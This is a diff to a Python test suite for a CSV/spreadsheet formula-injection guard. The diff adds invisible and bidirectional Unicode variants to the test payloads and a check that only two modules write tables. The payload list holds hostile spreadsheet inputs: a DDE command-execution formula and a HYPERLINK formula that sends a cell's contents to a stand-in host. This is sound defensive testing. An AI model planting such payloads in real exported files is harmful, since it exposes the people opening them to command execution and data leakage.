@@ -2,11 +2,13 @@
 
 import csv
 import io
+import re
 from datetime import UTC, date, datetime
 from decimal import Decimal
 from typing import Any
 
 import pytest
+from django.conf import settings
 from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import load_workbook
@@ -22,9 +24,12 @@ PAYLOADS = [
     "=cmd|'/c calc'!A1", '=HYPERLINK("http://x.example?"&A1,"click")', "=IMPORTXML(A1)", "+31612345678", "-",
     "x;=1+1", "x,=1+1", "x\t=1+1", 'x"=1+1', "x\r\n=1+1", "x|=1+1", 'a";=1+1;"', "x;＝1+1", "x;'=1", "=\u0000", "-2+3",
     "\x01=1+1", "\x00=1+1", "\x7f=1+1", "\x85@x", "x;\x01=1+1", "x,\x1f-1",
+    "\u202e=1+1", "\u2066@x", "\u061c-1", "\u180e+1", "\ufe0f=1", "\u3164=1", "\U000e0041=1", "\u2062\u2800=1",
+    "\u200b\x01 \u202a'=1", "x;\u200b=1", "x,\u202e\x01@x", "x\t\ufe0f=1",
 ]  # fmt: skip
 CONTROLS = "".join(map(chr, [*range(9), *range(14, 32), *range(127, 160)]))
-SKIPPED = " \u00a0\ufeff\u200b\u200e\u00ad\"'" + CONTROLS
+UNSEEN = "\ufeff\u200b\u200e\u00ad\u202a\u202e\u2066\u061c\u180e\ufe0f\u3164\U000e0041\u2062\u2800"
+SKIPPED = " \u00a0\"'" + UNSEEN + CONTROLS
 """What a program may leave out before it looks whether a cell begins like a formula."""
 LEADERS = tuple("=+-@\t\r＝＋－＠﹦﹢﹣﹫")
 
@@ -49,7 +54,7 @@ def test_no_csv_cell_starts_like_a_formula_whatever_delimiter_it_is_opened_with(
     for delimiter in ";,\t|":
         for line in text.splitlines():
             for cell in line.split(delimiter):
-                assert not cell.lstrip(CONTROLS).startswith(LEADERS)
+                assert not cell.lstrip(CONTROLS + UNSEEN).startswith(LEADERS)
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
@@ -78,6 +83,21 @@ def test_harmless_text_never_starts_like_a_formula(text: str) -> None:
 )
 def test_other_text_stays_as_it_is(text: str) -> None:
     assert harmless(text) == text
+
+
+def test_tables_for_others_are_written_in_one_place() -> None:
+    """What writes a table by itself would forget the guard; the codes of ``import_people`` are guarded on their own."""
+    writes = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bWorkbook\(|text/csv")
+    found = {
+        str(path.relative_to(settings.BASE_DIR))
+        for app in settings.BASE_DIR.glob("*/apps.py")
+        for path in app.parent.rglob("*.py")
+        if "seed" not in path.parts and writes.search(path.read_text(encoding="utf-8"))
+    }
+    assert found == {
+        "common/spreadsheets/writing.py",
+        "directory/management/commands/import_people.py",
+    }
 
 
 def test_numbers_stay_numbers_in_csv() -> None:
